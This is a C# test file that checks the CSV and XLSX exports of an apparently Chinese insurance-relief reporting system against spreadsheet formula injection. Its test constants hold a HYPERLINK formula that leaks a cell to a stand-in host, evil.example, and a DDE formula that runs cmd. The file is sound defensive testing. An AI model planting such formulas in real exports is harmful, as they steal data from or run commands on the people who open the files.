using System.Globalization;
using System.Net;
using System.Text;
using ClosedXML.Excel;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Localization;
using Wenjiu.Platform.Database;
using Wenjiu.Platform.Exports;
using Wenjiu.Platform.Identity;
using Wenjiu.Platform.Periods;
using Wenjiu.Relief.Features.Reports;
using Wenjiu.Relief.Localization;
using Wenjiu.Tests.Infrastructure;
using Wenjiu.Tests.Registry;

namespace Wenjiu.Tests.Exports;

/// <summary>
/// CSV and XLSX formula injection (issue 7 §3): every export neutralises a text cell a spreadsheet would read as a
/// formula, by OWASP's rule (a leading single quote), and leaves numbers numbers.
/// </summary>
public sealed class FormulaInjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A2;\"click\")";
    private const string Command = "=cmd|' /C calc'!A0";

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1+A1", "'-1+A1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("北京=1", "北京=1")]
    [InlineData("", "")]
    public void A_text_that_would_start_a_formula_is_prefixed_with_a_single_quote(string given, string expected) =>
        Assert.Equal(expected, SpreadsheetText.Neutralise(given));

    [Fact]
    public void A_csv_text_field_is_neutralised_then_quoted_and_a_number_stays_a_number()
    {
        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2;\"\"click\"\")\"", SpreadsheetText.CsvField(Hyperlink));
        Assert.Equal("-12.50", SpreadsheetText.CsvNumber(-12.5m, "0.00"));
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task The_import_error_report_neutralises_values_that_would_run_as_formulas(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        var runId = await ImportUploadTests.AddFinishedRunAsync(factory, ("uscc", Hyperlink, "uscc_length"), ("district", Command, "district_unknown"), ("employees", "-3", "negative"));
        using var staff = await SignedInClient.CreateAsync(factory, Roles.Administrator);

        using var response = await staff.GetAsync($"/api/v1/imports/{runId}/errors.csv");
        var lines = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF').Split("\r\n");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("2,uscc,统一社会信用代码,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2;\"\"click\"\")\",统一社会信用代码应为 18 位", lines[1]);
        Assert.Equal("3,district,区,'=cmd|' /C calc'!A0,不是北京市 16 个区之一的 GB/T 2260 代码", lines[2]);
        Assert.Equal("4,employees,从业人员,'-3,不能为负数", lines[3]);
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task The_relief_report_csv_neutralises_text_and_writes_negative_amounts_as_numbers(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        using var output = new MemoryStream();

        await ReliefReportExport.WriteCsvAsync(Report(), output, Text(factory));
        var lines = Encoding.UTF8.GetString(output.ToArray()).TrimStart('\uFEFF').Split("\r\n");

        Assert.Equal("区代码,区,单位数（户）,参保人数（人）,单位应缴（减免前，元）,减免额（元）,单位应缴（减免后，元）,缓缴金额（元）,个人应缴（元）,人均减免（元）", lines[0]);
        Assert.Equal("'=cmd|' /C calc'!A0,'=cmd|' /C calc'!A0,1,2,100.00,-12.50,112.50,0.00,0.00,-6.25", lines[1]);
        Assert.Equal("110105,朝阳区,1,2,100.00,50.00,50.00,0.00,0.00,25.00", lines[2]);
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task The_relief_report_xlsx_neutralises_text_cells_and_keeps_negative_amounts_numeric(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        using var output = new MemoryStream();

        ReliefReportExport.WriteXlsx(Report(), output, Text(factory));
        output.Position = 0;
        using var workbook = new XLWorkbook(output);
        var sheet = workbook.Worksheet(1);

        Assert.Equal(XLDataType.Text, sheet.Cell(2, 1).DataType);
        Assert.Equal("'" + Command, sheet.Cell(2, 1).GetString());
        Assert.False(sheet.Cell(2, 1).HasFormula);
        Assert.Equal(XLDataType.Number, sheet.Cell(2, 6).DataType);
        Assert.Equal(-12.50m, sheet.Cell(2, 6).GetValue<decimal>());
        Assert.Equal("朝阳区", sheet.Cell(3, 2).GetString());
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task The_relief_report_has_english_headers_and_names_for_an_english_reader(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        using var output = new MemoryStream();
        var before = CultureInfo.CurrentUICulture;
        CultureInfo.CurrentUICulture = CultureInfo.GetCultureInfo("en");
        try
        {
            await ReliefReportExport.WriteCsvAsync(Report(), output, Text(factory));
        }
        finally
        {
            CultureInfo.CurrentUICulture = before;
        }

        var lines = Encoding.UTF8.GetString(output.ToArray()).TrimStart('\uFEFF').Split("\r\n");
        Assert.StartsWith("District code,District,Employers,Insured persons,Employer due before relief (yuan)", lines[0], StringComparison.Ordinal);
        Assert.StartsWith("110105,Chaoyang", lines[2], StringComparison.Ordinal);
    }

    private static IStringLocalizer<ReliefText> Text(WenjiuFactory factory) => factory.Services.GetRequiredService<IStringLocalizer<ReliefText>>();

    private static ReliefReport Report()
    {
        var query = new ReliefReportQuery(new YearMonth(2020, 2), new YearMonth(2020, 2), [ReportDimension.District]);
        ReliefReportRow[] rows =
        [
            new(null, null, Command, null, null, 1, 2, 100m, -12.5m, 112.5m, 0m, 0m),
            new(null, null, "110105", null, null, 1, 2, 100m, 50m, 50m, 0m, 0m),
        ];
        return new ReliefReport(query, [new YearMonth(2020, 2)], rows, new ReliefReportRow(null, null, null, null, null, 2, 4, 200m, 37.5m, 162.5m, 0m, 0m));
    }
}
